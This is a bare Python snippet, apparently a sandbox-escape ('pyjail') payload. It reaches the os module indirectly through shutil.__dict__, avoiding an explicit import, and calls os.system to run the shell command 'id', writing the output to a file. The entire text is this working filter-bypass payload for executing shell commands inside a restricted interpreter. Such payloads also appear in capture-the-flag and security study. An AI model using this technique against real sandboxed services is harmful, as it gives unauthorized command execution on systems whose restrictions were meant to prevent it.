import shutil
for k, v in shutil.__dict__.items():
    if k == "os":
        v.system("id>pf")
        break
